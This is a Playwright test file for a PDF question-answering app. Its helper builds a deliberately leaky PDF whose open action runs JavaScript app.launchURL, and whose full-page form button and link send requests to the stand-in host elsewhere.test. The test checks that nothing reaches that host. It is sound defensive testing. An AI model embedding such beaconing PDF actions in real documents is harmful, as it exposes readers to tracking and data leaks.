import { createServer } from "node:http";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import { join } from "node:path";
import { chromium } from "@playwright/test";
import { launchOptions } from "../../tools/browser/browser";
import { startNetworkWitness } from "../../tools/browser/network-witness";
import { writeBytes } from "../fixtures/make-scans";
import { expect, test } from "./fixtures";
import { FootnotePage } from "./pages/footnote-page";

test.use({ everyVisit: true, firstVisit: false });

test("the witness hears a page that is served without our headers", async ({ temporary }) => {
  const witness = await startNetworkWitness();
  const server = createServer((_request, response) => {
    response.setHeader("Content-Type", "text/html");
    response.end(`<form method="post" action="http://elsewhere.test/posted"><button>Send</button></form>
      <img src="http://elsewhere.test/drawn.png">`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" ? address?.port : undefined;
  const context = await chromium.launchPersistentContext(
    join(temporary, "control"),
    launchOptions([witness.browserArg]),
  );
  const page = await context.newPage();
  await page.goto(`http://localhost:${port}/`);
  await expect.poll(() => witness.heard.join("\n")).toContain("GET /drawn.png");
  await page.getByRole("button", { name: "Send" }).click();
  await expect.poll(() => witness.heard.join("\n")).toContain("POST /posted");
  await context.close();
  server.close();
  await witness.stop();
});

/** A PDF whose whole first page is a button that submits a form to another host, and links there at every action. */
async function leakingPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([595, 842]);
  page.drawText("The keeper of the lamp is Ottilie Brandt. See http://elsewhere.test/text for more.", {
    ...{ x: 60, y: 700, size: 12, font },
  });
  const { context } = pdf;
  const submit = {
    S: "SubmitForm",
    F: context.obj({ FS: "URL", F: PDFString.of("http://elsewhere.test/form") }),
  };
  const uri = context.obj({ S: "URI", URI: PDFString.of("http://elsewhere.test/link") });
  const script = context.obj({
    S: "JavaScript",
    JS: PDFString.of('app.launchURL("http://elsewhere.test/js")'),
  });
  const button = context.obj({
    ...{
      Type: "Annot",
      Subtype: "Widget",
      FT: "Btn",
      Ff: 65536,
      T: PDFString.of("go"),
      Rect: [0, 0, 595, 842],
    },
    ...{ A: context.obj(submit), AA: context.obj({ D: uri, E: script }) },
  });
  const link = context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 595, 842], A: uri });
  const [buttonRef, linkRef] = [context.register(button), context.register(link)];
  page.node.set(PDFName.of("Annots"), context.obj([linkRef, buttonRef]));
  pdf.catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [buttonRef] }));
  pdf.catalog.set(PDFName.of("OpenAction"), script);
  return pdf.save();
}

// The witness of the fixtures fails this test if anything reaches another host.
test("a PDF that sends what it can reaches no host, however it is clicked", async ({ app, page, folder }) => {
  await writeBytes(join(folder, "Papers"), { "leak.pdf": await leakingPdf() });
  const footnote = new FootnotePage(page);
  await footnote.open(app.url);
  await footnote.drop(join(folder, "Papers"));
  await footnote.readyForWords();
  await footnote.ask("Who is the keeper of the lamp?");
  await expect(await footnote.answered()).toContainText("Ottilie Brandt");
  const opened = await footnote.follow(footnote.chips.first());
  const picture = opened.getByRole("img", { name: "Page 1 of leak.pdf" });
  await expect(picture).toBeVisible();
  // The link of the file lies over the whole page.
  const { x, y } = (await picture.boundingBox()) ?? { x: 0, y: 0 };
  for (const key of ["", "ControlOrMeta", "Shift"]) {
    if (key !== "") await opened.keyboard.down(key);
    await opened.mouse.click(x + 200, y + 200);
    if (key !== "") await opened.keyboard.up(key);
  }
  await expect(opened.getByText("leads out", { exact: false }).first()).toBeVisible();
  await opened.mouse.click(x + 200, y + 200, { button: "middle" });
  await opened.keyboard.press("Enter");
  await opened.waitForTimeout(500);
  // What is asked for as a PDF comes as a download, which no viewer draws.
  const headers = await opened.evaluate(async () => {
    const link = document.querySelector<HTMLAnchorElement>('a[href^="open/"]');
    const response = await fetch(link?.href ?? "");
    return [response.headers.get("Content-Disposition"), response.headers.get("Content-Type")];
  });
  expect(headers).toEqual(["attachment; filename*=UTF-8''leak.pdf", "application/octet-stream"]);
});
